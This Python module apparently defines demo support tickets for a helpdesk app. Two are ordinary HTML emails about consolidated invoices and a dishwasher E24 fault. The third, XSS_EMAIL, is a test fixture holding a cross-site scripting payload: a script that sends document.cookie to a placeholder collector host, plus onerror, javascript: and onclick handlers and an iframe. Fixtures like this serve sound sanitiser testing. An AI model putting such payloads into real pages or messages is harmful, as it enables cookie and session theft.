"""Customer emails that arrived as HTML: ordinary formatting, a hostile payload, a list."""

from __future__ import annotations

from calmdesk.demo.records import DemoTicket, agent, customer, note

# An ordinary formatted email from a VIP: paragraphs, bold, a link and a quoted reply.
HTML_INVOICE_EMAIL = DemoTicket(
    customer_key="dwayne_harris", subject="Re: Consolidated monthly invoice - still 40 PDFs",
    category="billing", channel="email", priority="high", severity=3,
    team_key="billing", assignee_key="mei_lin", status="pending_customer",
    tags=("invoices", "vip", "consolidated-invoice"), mood="frustrated", opened_days_ago=4.3,
    turns=(
        customer(0.0,
            "<p>Hi Mei Lin,</p>"
            "<p>This is the <b>second month in a row</b> we've received forty separate "
            "invoices instead of the single consolidated invoice we agreed. My investors "
            "reconcile by property and my accounts team has now spent two days matching PDFs "
            "by hand.</p>"
            "<p>The portal still shows them one by one: "
            "<a href=\"https://example.com/portal/invoices?account=HC-4410\">invoice list</a>."
            "</p>"
            "<p>Please fix this properly before the next billing run.</p>"
            "<p>Regards,<br><b>Dwayne Harris</b><br>Harris &amp; Cole Property Management</p>"
            "<blockquote><p>On the 3rd, Mei Lin Tan wrote:</p><p>Thanks Dwayne, I've "
            "switched your account to consolidated billing; from next month you'll receive "
            "one invoice with a breakdown per flat.</p></blockquote>",
            html=True),
        agent(3.0, "mei_lin",
            "Hi Dwayne, I'm sorry: I told you this was fixed and it wasn't, and your team "
            "has paid for that with two days of matching PDFs. I've found the cause: the "
            "switch I made applied to your main account but not to the 40 property "
            "sub-accounts, so each one still billed on its own. I've now moved all 40 under "
            "the consolidated invoice and checked it against a test run.\n\nThis month I'll "
            "send you one PDF with a per-flat breakdown plus a CSV your accounts team can "
            "import, by the end of tomorrow (UK time). I've also added a £50 account credit "
            "for your team's time. Would the PDF plus CSV format work for your investors?"),
        note(3.2, "mei_lin",
            "Sub-accounts were not linked to the consolidated billing group. Linked all 40; "
            "£50 goodwill credit approved by Priya."),
    ),
)

# A web-form submission carrying script, an event handler and a javascript: link.
XSS_EMAIL = DemoTicket(
    customer_key="alex_morgan", subject="Refund request order HL-000000",
    category="billing", channel="email", priority="normal", severity=4,
    team_key="general", assignee_key=None, status="new",
    tags=(), mood="calm", opened_days_ago=1.7,
    turns=(
        customer(0.0,
            "<p>Hello support,</p>"
            "<p>Please refund my order. Details below.</p>"
            "<script>fetch('https://collector.example.net/c?d='+document.cookie)</script>"
            "<img src=\"x\" onerror=\"alert(document.domain)\">"
            "<p>See my receipt <a href=\"javascript:alert('receipt')\">here</a> and "
            "<a href=\"https://example.net/receipt.pdf\" onclick=\"steal()\">here</a>.</p>"
            "<iframe src=\"https://collector.example.net/frame\"></iframe>"
            "<p style=\"position:fixed;top:0\">Thanks, Alex</p>",
            html=True),
    ),
)


# Pasted from an office mail client: a table of machines and a list, with inline styles.
HTML_FAULT_REPORT = DemoTicket(
    customer_key="samuel_osei", subject="Both sterilisation-room dishwashers showing E24",
    category="technical", channel="email", priority="urgent", severity=2,
    team_key="field_service", assignee_key="dmitri", status="resolved",
    tags=("cleansweep-pro", "error-e24", "engineer-visit"), mood="frustrated",
    opened_days_ago=2.2,
    turns=(
        customer(0.0,
            "<div style=\"font-family:Calibri\"><p>Good morning,</p>"
            "<p>Both dishwashers in our sterilisation room stopped mid-cycle this morning "
            "with the same code:</p>"
            "<table><thead><tr><th>Machine</th><th>Serial</th><th>Code</th></tr></thead>"
            "<tbody><tr><td>CleanSweep Pro (left)</td><td>CSP-2291-0456</td><td>E24</td></tr>"
            "<tr><td>CleanSweep Pro (right)</td><td>CSP-2291-0457</td><td>E24</td></tr>"
            "</tbody></table>"
            "<p>What we have tried:</p><ul><li>Switched off and on at the wall</li>"
            "<li>Cleaned the filters</li><li>Checked the drain hose is not kinked</li></ul>"
            "<p>We have had to <b>cancel six appointments today</b>. This is the second "
            "E24 in a month. We need an engineer today, please.</p>"
            "<p>Dr Samuel Osei<br>Oakridge Dental Practice</p></div>",
            html=True),
        agent(0.5, "hannah",
            "Good morning Dr Osei, I'm sorry: losing six appointments is serious, and a "
            "second E24 in a month shouldn't happen. E24 on both machines at once points to "
            "the shared drain or its pump rather than the dishwashers themselves, so it's "
            "worth your team not running them until we've looked. I've booked our "
            "technician Dmitri for 07:30 tomorrow, before your first patients, and he'll "
            "bring a loan machine in case a part has to be ordered. Is 07:30 all right for "
            "Joy to let him in?"),
        customer(1.5, "07:30 is fine. Joy will be there."),
        note(25.0, "dmitri",
            "On site 07:25. Shared drain pump clogged with label residue; cleared and "
            "replaced the non-return valve (under contract). Both machines ran two test "
            "cycles clean. Advised removing labels from instruments before washing."),
        agent(26.0, "dmitri",
            "Dr Osei, both dishwashers are working again: the shared drain pump was clogged "
            "and I replaced a valve, at no charge under your contract. I've left the loan "
            "machine with Joy until the end of the week just in case. Could you let us know "
            "if either shows E24 again?"),
    ),
)

TICKETS: tuple[DemoTicket, ...] = (HTML_INVOICE_EMAIL, XSS_EMAIL, HTML_FAULT_REPORT)
